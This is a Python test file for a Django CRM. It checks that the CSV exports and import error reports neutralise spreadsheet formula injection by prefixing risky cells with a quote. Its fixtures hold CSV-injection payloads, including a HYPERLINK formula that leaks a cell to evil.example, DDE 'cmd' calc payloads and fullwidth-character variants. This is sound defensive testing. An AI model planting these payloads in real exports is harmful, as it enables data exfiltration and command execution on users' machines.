"""Hostile input, CSV: every export neutralises cells a spreadsheet would run as a formula.

A cell starting with = + - @, TAB or CR gets a leading single quote (OWASP's advice),
in the list exports (page and API), the tag export, the segment member export (page
and API) and the import's error report. The values are written straight to the
database where the forms and the API would trim the leading TAB or CR away: old
data, imports and other writers can still hold them.
"""

import csv
import io

import pytest

from django.core.files.uploadedfile import SimpleUploadedFile

from contacts.models import Contact
from deals.models import Deal
from leads.models import Lead
from segments import services
from segments.models import Segment
from segments.sync import sync_segment
from tags.models import ContactTag, DealTag, LeadTag, Tag
from tags.names import name_key

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth =, which some Excel locales read as =
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(1+9)",
]
INERT = ["plain text", "'=already quoted", " =leading space", "a=1", "1-2"]


def _tag_names() -> dict[str, str]:
    """Each value's tag name: the value, but " (n)" after one that names an existing tag
    (ignoring width and controls, tags.names), as migration tags/0007 renames such tags."""
    names, taken = {}, set()
    for n, value in enumerate(FORMULAS + INERT):
        names[value] = value if name_key(value) not in taken else f"{value} ({n})"
        taken.add(name_key(names[value]))
    return names


TAG_NAMES = _tag_names()


def read_csv(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def neutralised(value: str) -> str:
    return f"'{value}"


@pytest.fixture
def hostile_records(admin_user):
    """A contact, lead and deal per value, each tagged with a tag named by the value."""
    records = {}
    for n, value in enumerate(FORMULAS + INERT):
        tag = Tag.objects.create(
            name=TAG_NAMES[value], slug=f"t{n}", color="#2563eb", description=TAG_NAMES[value]
        )
        contact = Contact.objects.create(
            first_name=value,
            last_name=value,
            phone=value,
            company=value,
            job_title=value,
            city=value,
            email=f"c{n}@example.com",
            owner=admin_user,
        )
        lead = Lead.objects.create(name=value, phone=value, company=value, email=f"l{n}@x.example")
        deal = Deal.objects.create(title=value, contact=contact)
        ContactTag.objects.create(record=contact, tag=tag)
        LeadTag.objects.create(record=lead, tag=tag)
        DealTag.objects.create(record=deal, tag=tag)
        records[value] = (contact, lead, deal)
    return records


LIST_EXPORTS = {
    "contacts": ["first_name", "last_name", "phone", "company", "job_title", "city"],
    "leads": ["name", "phone", "company"],
    "deals": ["title"],
}


def _by_value(rows, record_type):
    """The row of each stored value, found by its first text column."""
    first = LIST_EXPORTS[record_type][0]
    return {_stored(row[first]): row for row in rows}


def _stored(cell: str) -> str:
    """The value a cell was exported from."""
    return cell[1:] if cell.startswith("'") and cell[1:] in FORMULAS else cell


def _stored_tag(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:] in TAG_NAMES.values() else cell


def _expected(value: str, column: str = "") -> str:
    cell = TAG_NAMES[value] if column == "tags" else value
    return neutralised(cell) if value in FORMULAS else cell


@pytest.mark.parametrize("record_type", list(LIST_EXPORTS))
@pytest.mark.parametrize("via", ["page", "api"])
def test_list_exports_neutralise_formula_cells(
    browser_client, api, hostile_records, record_type, via
):
    url = (
        f"/admin/{record_type}/export.csv"
        if via == "page"
        else f"/api/crm/{record_type}/export.csv"
    )
    response = (browser_client if via == "page" else api).get(url)

    assert response.status_code == 200
    rows = read_csv(response)
    assert len(rows) == len(FORMULAS + INERT)
    columns = LIST_EXPORTS[record_type]
    by_value = _by_value(rows, record_type)
    assert set(by_value) == set(FORMULAS + INERT)
    for value, row in by_value.items():
        for column in [*columns, "tags"]:
            assert row[column] == _expected(value, column), (record_type, column, value)


def test_tag_export_neutralises_names_and_descriptions(browser_client, hostile_records):
    rows = read_csv(browser_client.get("/admin/crm/tags/export.csv"))

    assert len(rows) == len(FORMULAS + INERT)
    by_name = {name: value for value, name in TAG_NAMES.items()}
    assert {_stored_tag(row["name"]) for row in rows} == set(by_name)
    for row in rows:
        assert row["name"] == _expected(by_name[_stored_tag(row["name"])], "tags")
        assert row["description"] == row["name"]


@pytest.mark.parametrize("via", ["page", "api"])
def test_segment_export_neutralises_member_cells(browser_client, api, admin_user, via):
    for n, value in enumerate(FORMULAS + INERT):
        Contact.objects.create(
            first_name=value, last_name=value, phone=value, company=value, email=f"m{n}@x.example"
        )
    segment = services.create_segment(
        name="everyone",
        user=admin_user,
        criteria={
            "match": "all",
            "conditions": [{"field": "email", "operator": "ends_with", "value": "@x.example"}],
        },
    )
    sync_segment(segment, admin_user)
    # The owner column shows the user's name: a username can start with = too.
    admin_user.username = "=cmd|' /C calc'!A0"
    admin_user.save()
    Contact.objects.update(owner=admin_user)

    client = browser_client if via == "page" else api
    prefix = "/admin/crm-segments" if via == "page" else "/api/crm/segments"
    if via == "page":
        client.force_login(admin_user)
    response = client.get(f"{prefix}/{segment.pk}/export.csv")

    assert response.status_code == 200
    rows = read_csv(response)
    assert len(rows) == len(FORMULAS + INERT)
    values = FORMULAS + INERT
    for row in rows:
        value = values[int(row["email"].split("@")[0][1:])]
        for column in ("first_name", "last_name", "phone", "company"):
            assert row[column] == _expected(value), (column, value)
        assert row["owner"] == neutralised("=cmd|' /C calc'!A0")
    assert Segment.objects.get().member_count == len(values)


@pytest.fixture
def uploads_in_tmp(settings, tmp_path):
    settings.VAR_DIR = tmp_path


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_import_error_report_neutralises_header_and_reasons(
    browser_client, uploads_in_tmp, formula
):
    """The report repeats the file's column names and bad values: they came from a stranger."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["first_name", formula, "email"])
    writer.writerow(["Eve", formula, "eve@example.com"])
    writer.writerow(["Ok", "FR", "ok@example.com"])
    upload = SimpleUploadedFile("evil.csv", out.getvalue().encode(), content_type="text/csv")
    review = browser_client.post("/admin/contacts/import", {"file": upload})["Location"]
    form = {"map_0": "first_name", "map_1": "country", "map_2": "email", "action": "dry_run"}
    assert browser_client.post(review, form).status_code == 200

    response = browser_client.get(f"{review}/errors.csv")

    assert response.status_code == 200
    rows = read_csv(response)
    assert [(row["row"], row["column"]) for row in rows] == [("2", neutralised(formula))]
    assert not rows[0]["reason"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not Contact.objects.exists()  # a dry run writes nothing
